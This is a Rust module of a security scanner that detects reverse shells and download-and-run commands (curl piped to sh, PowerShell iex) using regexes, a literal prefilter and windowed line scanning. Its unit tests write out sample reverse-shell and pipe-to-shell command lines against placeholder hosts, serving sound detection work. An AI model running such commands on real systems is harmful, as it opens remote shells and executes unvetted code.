//! The security scan's byte-level patterns — reverse shells and download-and-run (`curl … |
//! sh`, `iex (irm …)`) — over any text: a file the Python analysis did not parse, in windows of
//! bounded size, or a string constant of one it did. A leaf of the analysis: the source reader
//! asks it whether a file needs parsing for them (`byte_patterns_match`), the scan runs them.

use aho_corasick::AhoCorasick;
use regex_automata::Input;
use regex_automata::meta::Regex as SpanRegex;
use std::io::Read;
use std::sync::LazyLock;

use super::finding::{Level, SecurityFinding};
use crate::located::Pos;

// The two byte-level patterns are searched with regex-automata's `meta::Regex`, which can
// search a span of a haystack while its `\b` sees the characters around the span: a window
// of a long line is searched up to its end with the next character of the line as context.

const REVERSE_SHELL_PATTERN: &str = r"(?i)(/dev/tcp/[^\s/]+/\d+|bash\s+-i\s+>&|\bnc(at)?\s+(-\w+\s+)*-e\s+/bin/(ba|z|da)?sh|socat\s+[^\n]*exec:|mkfifo\s+/tmp/\S+[^\n]*\bnc\b|\bsh\s+-i\s+[<>]&)";

const PIPE_TO_SHELL_PATTERN: &str = r"(?i)(\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba|z|da)?sh\b|\b(iex|invoke-expression)\b\s*\(?\s*(\(?\s*new-object\s+net\.webclient|iwr|invoke-webrequest|irm\b))";

static REVERSE_SHELL: LazyLock<SpanRegex> =
    LazyLock::new(|| SpanRegex::new(REVERSE_SHELL_PATTERN).expect("valid regex"));

static PIPE_TO_SHELL: LazyLock<SpanRegex> =
    LazyLock::new(|| SpanRegex::new(PIPE_TO_SHELL_PATTERN).expect("valid regex"));

/// Each pattern without its word boundaries (`\b`), asked first whether a whole text can
/// match: it matches wherever the pattern does (an assertion removed only allows more), so
/// where it finds nothing the pattern finds nothing either.
///
/// Why: a Unicode `\b` keeps regex-automata's lazy DFA off any text with a non-ASCII byte
/// (most READMEs and many modules have one), and the search falls back to an engine an
/// order of magnitude slower per byte. Without `\b`, the same search stays on the DFA: over
/// the 176 texts of the real-plugin corpus that hold a [`NEEDED`] string, 97 M of the
/// run's 2.6 G instructions (callgrind) were the patterns' own search.
static LOOSE: LazyLock<[regex::Regex; 2]> = LazyLock::new(|| {
    [REVERSE_SHELL_PATTERN, PIPE_TO_SHELL_PATTERN]
        .map(|p| regex::Regex::new(&without_word_boundaries(p)).expect("valid regex"))
});

/// `pattern` with every `\b` dropped (the patterns above escape no backslash, so each `\b`
/// is a word boundary).
fn without_word_boundaries(pattern: &str) -> String {
    pattern.replace(r"\b", "")
}

/// Strings, in ASCII lower case, one of which every match of either byte-level pattern
/// contains, whatever its case: `/dev/tcp/`; the `>&` or `<&` of `bash -i >&` and `sh -i <&`;
/// the `/bin/` of `nc -e /bin/sh`; the `exec:` of `socat … exec:`; the `fifo` of
/// `mkfifo … nc`; `curl` or `wget` before a pipe to a shell; PowerShell's `iex` or the
/// `e-expre` of `invoke-expression`.
///
/// None holds an `s` or a `k`: the patterns' `(?i)` folds those to `ſ` and the Kelvin sign
/// too, which an ASCII lower-casing would not see (no other letter here folds to anything
/// outside ASCII; a test checks every character). Most files contain none of these, and
/// searching for them costs a tenth of the patterns' own search, whose prefilter
/// stops at every `sh` and `nc` of ordinary text ([`may_match`]).
const NEEDED: &[&str] = &[
    "/dev/tcp/",
    ">&",
    "<&",
    "/bin/",
    "exec:",
    "fifo",
    "curl",
    "wget",
    "iex",
    "e-expre",
];

/// Leftmost-first, which lets the automaton search with its SIMD prefilter (Teddy); the
/// standard match kind of `AhoCorasick::new` was seen scanning without it in a profile.
static NEEDED_SEARCH: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .match_kind(aho_corasick::MatchKind::LeftmostFirst)
        .build(NEEDED)
        .expect("literal words")
});

/// How many of [`NEEDED`], from its start, are the reverse shell's; the rest are the pipe to a
/// shell's.
const REVERSE_SHELL_NEEDED: usize = 6;

/// [`NEEDED`] in two: the strings one of which every match of [`REVERSE_SHELL`] contains, and
/// those of [`PIPE_TO_SHELL`]. A text holding only a `curl` is not searched for a reverse
/// shell, whose search stops at every `sh` and `nc` (most of the patterns' cost, callgrind).
static NEEDED_EACH: LazyLock<[AhoCorasick; 2]> = LazyLock::new(|| {
    [
        &NEEDED[..REVERSE_SHELL_NEEDED],
        &NEEDED[REVERSE_SHELL_NEEDED..],
    ]
    .map(|words| {
        AhoCorasick::builder()
            .match_kind(aho_corasick::MatchKind::LeftmostFirst)
            .build(words)
            .expect("literal words")
    })
});

/// Whether `text` contains one of the [`NEEDED`] strings in any ASCII case: where it does
/// not, neither byte-level pattern can match anywhere in it.
fn may_match(text: &[u8]) -> bool {
    contains_lowercase(&NEEDED_SEARCH, text)
}

/// Whether `text`, lower-cased in ASCII, contains one of `search`'s strings (each at most 9
/// bytes). Lower-cased a piece at a time (pieces overlapping by the longest string but one,
/// so none is split unseen), as the packed searcher that makes this fast has no
/// case-insensitive mode.
fn contains_lowercase(search: &AhoCorasick, text: &[u8]) -> bool {
    const PIECE: usize = 16 << 10;
    const KEEP: usize = 8; // the longest of NEEDED, `/dev/tcp/`, less one
    // Sized to the text: a fixed piece-sized buffer was zeroed on every call, 16 KiB for
    // a text of a few hundred bytes.
    let mut lower: Vec<u8> = Vec::with_capacity(text.len().min(PIECE + KEEP));
    let mut start = 0;
    while start < text.len() {
        let from = start.saturating_sub(KEEP);
        let to = (start + PIECE).min(text.len());
        lower.clear();
        lower.extend_from_slice(&text[from..to]);
        lower.make_ascii_lowercase();
        if search.is_match(&lower) {
            return true;
        }
        start = to;
    }
    false
}

pub(super) fn snippet_of(text: &str) -> String {
    crate::located::truncate_chars(text.lines().next().unwrap_or("").trim(), 100)
}

pub(super) fn check_text(
    text: &str,
    out: &mut Vec<SecurityFinding>,
    make: impl Fn(Level, &'static str, String) -> SecurityFinding,
) {
    check_text_in(text, 0, text.len(), out, make);
}

/// The rules of the byte-level patterns that match somewhere in `text` (both of them, where
/// [`check_text`] reports the worse one): the reference the windowed scan is fuzzed against.
pub fn rules_matching(text: &str) -> Vec<&'static str> {
    let mut rules = Vec::new();
    if REVERSE_SHELL.is_match(text) {
        rules.push("reverse-shell");
    }
    if PIPE_TO_SHELL.is_match(text) {
        rules.push("pipe-to-shell");
    }
    rules
}

/// Whether the byte-level scan of a file of this text ([`scan_bytes`]) can find anything.
///
/// A file no longer than one window has no line split into windows, so each line is
/// searched with the same context the whole text gives it: where neither pattern matches
/// the whole text, no line can match (a pass per pattern instead of one per line; the two
/// joined in one regex were measured 2.5× slower). A longer file is
/// scanned as [`scan_bytes`] does. Either way a text without a [`NEEDED`] string is not
/// searched at all.
pub fn byte_patterns_match(text: &str) -> bool {
    if !may_match(text.as_bytes()) {
        false
    } else if text.len() <= WINDOW {
        let [reverse, pipe] = &*NEEDED_EACH;
        (contains_lowercase(reverse, text.as_bytes())
            && LOOSE[0].is_match(text)
            && REVERSE_SHELL.is_match(text))
            || (contains_lowercase(pipe, text.as_bytes())
                && LOOSE[1].is_match(text)
                && PIPE_TO_SHELL.is_match(text))
    } else {
        !byte_patterns(text.as_bytes(), "", WINDOW, OVERLAP).is_empty()
    }
}

/// [`check_text`] for matches within `text[start..end]`, the text around it being only
/// context (what precedes or follows a word decides a `\b`).
fn check_text_in(
    text: &str,
    start: usize,
    end: usize,
    out: &mut Vec<SecurityFinding>,
    make: impl Fn(Level, &'static str, String) -> SecurityFinding,
) {
    let span = || Input::new(text).span(start..end);
    let matched = |m: regex_automata::Match| text.get(m.range()).unwrap_or_default();
    if let Some(m) = REVERSE_SHELL.find(span()).map(matched) {
        out.push(make(
            Level::Critical,
            "reverse-shell",
            format!(
                "reverse shell pattern `{}`",
                crate::located::truncate_chars(m, 60)
            ),
        ));
    } else if let Some(m) = PIPE_TO_SHELL.find(span()).map(matched) {
        out.push(make(
            Level::High,
            "pipe-to-shell",
            format!(
                "downloads a script and pipes it to a shell: `{}`",
                crate::located::truncate_chars(m, 60)
            ),
        ));
    }
}

/// How much of a line the byte-level patterns see at once, and how much two windows of an
/// over-long line overlap: memory stays bounded on a file that is one huge line, and a match
/// shorter than the overlap is never split.
pub(super) const WINDOW: usize = 1 << 20;

/// `String::from_utf8_lossy`, checking valid UTF-8 (nearly every file) with `str::from_utf8`
/// first: its ASCII fast path is several times faster than the lossy decoder's loop (1 % of
/// a cold `validate` went to that loop).
pub(super) fn lossy(bytes: &[u8]) -> std::borrow::Cow<'_, str> {
    match std::str::from_utf8(bytes) {
        Ok(text) => std::borrow::Cow::Borrowed(text),
        Err(_) => String::from_utf8_lossy(bytes),
    }
}

/// How much of a file's start the magic numbers and the binary test (a NUL) look at.
pub(super) const HEAD: usize = 8192;

const OVERLAP: usize = 16 << 10;

/// Runs the byte-level patterns (reverse shells, download-and-run) over every line of a file
/// the Python analysis did not parse — whatever its size or extension: a 2.5 MB `.py` of
/// padding, a shell script, a file of unknown type — in one linear pass. Comment-only lines
/// (`#`, not `#!`) are hints shown to people, not code, and are skipped. Stops after 200
/// findings in one file.
pub(super) fn scan_bytes(file: impl Read, rel: &str, out: &mut Vec<SecurityFinding>) {
    scan_windowed(file, rel, WINDOW, OVERLAP, out);
}

/// The byte-level patterns over one file, seen in windows of `window` bytes overlapping by
/// `overlap` (`0 < overlap < window`): what `validate` runs with 1 MiB and 16 KiB, public for
/// the fuzz target that compares small windows with whole lines.
pub fn byte_patterns(
    file: impl Read,
    rel: &str,
    window: usize,
    overlap: usize,
) -> Vec<SecurityFinding> {
    assert!(
        0 < overlap && overlap < window,
        "overlap must be inside the window"
    );
    let mut out = Vec::new();
    scan_windowed(file, rel, window, overlap, &mut out);
    out
}

fn scan_windowed(
    file: impl Read,
    rel: &str,
    window_size: usize,
    overlap: usize,
    out: &mut Vec<SecurityFinding>,
) {
    let mut reader = std::io::BufReader::with_capacity(64 << 10, file);
    let mut window = Vec::new();
    let mut number: u32 = 0;
    let mut found = 0usize;
    loop {
        number = number.saturating_add(1);
        window.clear();
        let line_start = out.len();
        let mut first = true;
        let mut comment = false;
        loop {
            // At most `window_size` bytes at a time; an over-long line continues in windows
            // that keep the last `overlap` bytes of the one before. Their first character is
            // context only (it decides a `\b`); a match starting there, or one already
            // reported for this line, is not reported again.
            let room = if first {
                window_size
            } else {
                window_size - overlap
            };
            let read = match std::io::BufRead::read_until(
                &mut (&mut reader).take(room as u64),
                b'\n',
                &mut window,
            ) {
                Ok(n) => n,
                Err(_) => return,
            };
            if read == 0 && first {
                return; // end of file
            }
            let ended = window.last() == Some(&b'\n') || read < room;
            if !comment {
                let mut text = String::from_utf8_lossy(&window).into_owned();
                let end = text.len();
                if !ended {
                    // The line goes on: its next character is context for a `\b` at the
                    // window's end (`| sh` before `ell` is no pipe to a shell). A character
                    // split by the read buffer's end is taken as not a word character.
                    let next = std::io::BufRead::fill_buf(&mut reader).unwrap_or_default();
                    let next = &next[..next.len().min(4)];
                    text.extend(String::from_utf8_lossy(next).chars().next());
                }
                if first {
                    let trimmed = text.trim_start();
                    comment = trimmed.starts_with('#') && !trimmed.starts_with("#!");
                }
                if !comment {
                    let from = if first {
                        0
                    } else {
                        text.chars().next().map_or(0, char::len_utf8)
                    };
                    let mut here = Vec::new();
                    check_text_in(&text, from, end, &mut here, |level, rule, message| {
                        SecurityFinding {
                            level,
                            rule,
                            message,
                            file: rel.to_string(),
                            pos: Pos::new(number, 1),
                            snippet: snippet_of(&text[..end]),
                        }
                    });
                    for finding in here {
                        if !out[line_start..].iter().any(|f| f.rule == finding.rule) {
                            out.push(finding);
                            found += 1;
                        }
                    }
                }
            }
            first = false;
            if ended || found > 200 {
                break;
            }
            window.drain(..window.len() - overlap);
        }
        if found > 200 {
            return;
        }
    }
}

#[cfg(test)]
mod byte_tests {
    use super::*;

    fn rules(found: &[SecurityFinding]) -> Vec<(u32, &'static str)> {
        found.iter().map(|f| (f.pos.line, f.rule)).collect()
    }

    /// Where neither pattern matches a whole text, the line scan finds nothing either (the
    /// check `scan_tree` and `reach` skip files with), comment lines and long files included.
    #[test]
    fn no_whole_text_match_means_no_line_finding() {
        let payload = "os.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")";
        for text in [
            "x = 1\n".to_string(),
            "curl -fsSL https://e.invalid/i.sh | sh\n".into(),
            "# curl -fsSL https://e.invalid/i.sh | sh\n".into(),
            "curl https://e.invalid/i.sh\n| sh\n".into(),
            format!("é{payload}é\n"),
            "xcurl https://e.invalid/i.sh | shell\n".into(),
            "nc -e\n/bin/sh\n".into(),
            format!("{}\n{payload}\n", "y".repeat(WINDOW + 10)),
            format!("{}\n", "y".repeat(WINDOW + 10)),
        ] {
            let lines = !byte_patterns(text.as_bytes(), "f", WINDOW, OVERLAP).is_empty();
            assert!(byte_patterns_match(&text) || !lines, "{:.60}", text);
        }
        assert!(byte_patterns_match(&format!(
            "{}\n{payload}\n",
            "y".repeat(WINDOW + 10)
        )));
        assert!(!byte_patterns_match(&format!(
            "{}\n",
            "y".repeat(WINDOW + 10)
        )));
    }

    /// The patterns without `\b` ([`LOOSE`]) have none left, and match wherever the patterns
    /// do: next to non-ASCII letters and marks, folded letters, and word ends of every kind.
    #[test]
    fn the_loose_patterns_match_wherever_the_patterns_do() {
        for p in [REVERSE_SHELL_PATTERN, PIPE_TO_SHELL_PATTERN] {
            assert!(!without_word_boundaries(p).contains(r"\b"));
        }
        let cores = [
            "curl -fsSL https://e.invalid/x | sh",
            "wget -qO- e.invalid/x |bash",
            "nc -e /bin/sh",
            "ncat -v -e /bin/zsh",
            "mkfifo /tmp/f; cat /tmp/f | nc 10.0.0.1 9",
            "sh -i <& 3",
            "ſh -i >& 3",
            "iex (New-Object Net.WebClient).DownloadString('x')",
            "invoke-expression (irm x)",
            "bash -i >& /dev/tcp/10.0.0.1/4444",
        ];
        let sides = ["", " ", "é", "x", "\u{301}", "_", "\u{17f}", "—", "\n"];
        for core in cores {
            for before in sides {
                for after in sides {
                    let text = format!("{before}{core}{after}");
                    let strict = !rules_matching(&text).is_empty();
                    let loose = LOOSE.iter().any(|r| r.is_match(&text));
                    assert!(loose || !strict, "{text:?}");
                    assert_eq!(byte_patterns_match(&text), strict, "{text:?}");
                }
            }
        }
    }

    /// The [`NEEDED`] strings are searched in ASCII lower case, which is only sound while
    /// none of their letters matches a character outside ASCII under the patterns' `(?i)`
    /// (as `s` matches `ſ` and `k` the Kelvin sign): checked against every character.
    #[test]
    fn no_needed_letter_folds_outside_ascii() {
        let letters: std::collections::BTreeSet<char> = NEEDED
            .iter()
            .flat_map(|w| w.chars())
            .filter(char::is_ascii_alphabetic)
            .collect();
        let class: String = letters.iter().collect();
        let fold = SpanRegex::new(&format!("(?i)[{class}]")).unwrap();
        let beyond: String = (0x80..=0x10FFFF).filter_map(char::from_u32).collect();
        assert_eq!(fold.find(&beyond), None);
        let folds_s = SpanRegex::new("(?i)s").unwrap();
        assert!(folds_s.is_match("\u{17f}"), "the check would see a fold");
    }

    /// Every way either pattern can match, in odd cases, holds a [`NEEDED`] string, found
    /// wherever it falls against the lower-casing's pieces; text without one is skipped.
    #[test]
    fn every_match_holds_a_needed_string() {
        let matching = [
            "exec 5<>/DEV/TCP/10.0.0.1/4444",
            "BASH -I >& x",
            "baſh -i >& x",
            "NCat -v -E /BIN/ZSH",
            "nc -e /bin/ſh",
            "SoCaT tcp:1.2.3.4:9 EXEC:'bash -li'",
            "ſocat - exec:sh",
            "MKFIFO /tmp/f; cat /tmp/f | sh -i | NC 10.0.0.1 9 > /tmp/f",
            "mKfifo /tmp/f; nc x",
            "sh -i <& 3",
            "Curl -fsSL https://e.invalid/x | SUDO bash",
            "WGET -qO- https://e.invalid/x |sh",
            "IEX (New-Object Net.WebClient).DownloadString('x')",
            "Invoke-Expression (iwr x)",
            "invoKe-expreſſion (irm x)",
        ];
        for text in matching {
            assert!(!rules_matching(text).is_empty(), "{text}");
            assert!(may_match(text.as_bytes()), "{text}");
            for at in [0, (16 << 10) - 3, (16 << 10) - 9, 3 * (16 << 10) + 5] {
                let placed = format!("{}{text}{}", " ".repeat(at), " ".repeat(40));
                assert!(may_match(placed.as_bytes()), "{text} at {at}");
                assert!(byte_patterns_match(&placed), "{text} at {at}");
            }
        }
        for text in ["", "import sys\nhash(x) and sync()\n", "bash -i ; nc -e sh"] {
            assert!(!may_match(text.as_bytes()), "{text}");
            assert!(rules_matching(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn every_byte_is_seen_in_bounded_windows() {
        let payload = "os.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")";
        // A padding line longer than the windows, then the payload at the end of it.
        let long = format!("x = 1; {} ; {payload}\n", "y".repeat(3000));
        let found = byte_patterns(long.as_bytes(), "f.py", 256, 96);
        assert_eq!(rules(&found), [(1, "reverse-shell")]);
        // Comment lines are text for people; the code line after them is not.
        let text = format!("# {payload}\n{}\n{payload}\n", "#".repeat(5000));
        let found = byte_patterns(text.as_bytes(), "f.py", 256, 96);
        assert_eq!(rules(&found), [(3, "reverse-shell")]);
        // Once per rule and line, however many windows see it.
        let repeated = format!("{}\n", [payload; 40].join(" "));
        let found = byte_patterns(repeated.as_bytes(), "f.py", 128, 96);
        assert_eq!(rules(&found), [(1, "reverse-shell")]);
        // A cut inside a word does not make a word boundary: `xcurl` is not `curl`.
        let glued = format!("{}xcurl https://e.invalid/i.sh | sh\n", "a".repeat(61));
        for (window, overlap) in [(64, 24), (66, 24), (70, 24)] {
            let found = byte_patterns(glued.as_bytes(), "f.sh", window, overlap);
            assert!(found.is_empty(), "{window}: {:?}", rules(&found));
        }
        assert_eq!(rules_matching(&glued), Vec::<&str>::new());
    }

    /// A window that ends inside a word does not end the word: `| sh` cut from `| shellcheck`
    /// is no pipe to a shell (found by the `security_bytes` fuzz target), while `| sh` that
    /// the line continues after with a space still is.
    #[test]
    fn a_window_end_is_not_a_word_end() {
        let head = "curl -fsSL https://e.invalid/x | sh";
        for (tail, expected) in [
            ("ellcheck\n", Vec::new()),
            (" -s -- --yes\n", vec![(1, "pipe-to-shell")]),
        ] {
            let line = format!("{head}{tail}");
            let found = byte_patterns(line.as_bytes(), "f.sh", head.len(), 8);
            assert_eq!(rules(&found), expected, "{line:?}");
            assert_eq!(
                !rules_matching(&line).is_empty(),
                !expected.is_empty(),
                "{line:?}"
            );
        }
        // The fuzzer's input, as it found it: windows of 64 reported line 4.
        let input = b"#!\x95/bin\xeesh\n# I#!\x95/bin\xeesh\n# Inr\ncurl -fsSL https://example.com/get.sps://example.com/get.sh | shnsta]lls the helper\ncur\x01\x80-fsSL https://example.com/get.sh |zsh\n";
        for (window, overlap) in [(1 << 20, 1 << 10), (64, 24), (7, 3)] {
            let found = byte_patterns(&input[..], "f", window, overlap);
            assert!(
                found.iter().all(|f| f.pos.line != 4),
                "{window}: {:?}",
                rules(&found)
            );
        }
    }

    /// Every input the `security_bytes` fuzz target ever failed on (`fuzz/findings/
    /// security_bytes-*`), replayed with the target's own property on every `cargo test`:
    /// windows of any size report only lines the input has, once per rule and line, and only
    /// rules that match that whole line.
    #[test]
    fn the_fuzz_findings_hold_the_window_property() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/findings");
        let mut replayed = 0;
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            if !name.starts_with("security_bytes-") {
                continue;
            }
            let data = std::fs::read(&path).unwrap();
            let lines: Vec<&[u8]> = data.split(|b| *b == b'\n').collect();
            for (window, overlap) in [(1 << 20, 1 << 10), (64, 24), (7, 3)] {
                let mut seen = std::collections::HashSet::new();
                for f in byte_patterns(&data[..], "f", window, overlap) {
                    let n = f.pos.line as usize;
                    assert!(n >= 1 && n <= lines.len(), "{name}: line {n}");
                    assert!(seen.insert((n, f.rule)), "{name}: {} twice at {n}", f.rule);
                    let whole = String::from_utf8_lossy(lines[n - 1]);
                    assert!(
                        rules_matching(&whole).contains(&f.rule),
                        "{name}: windows of {window} invented {} at line {n}",
                        f.rule
                    );
                }
            }
            replayed += 1;
        }
        assert!(
            replayed >= 3,
            "the window-end findings of 2026-12-03 are there: {replayed}"
        );
    }
}
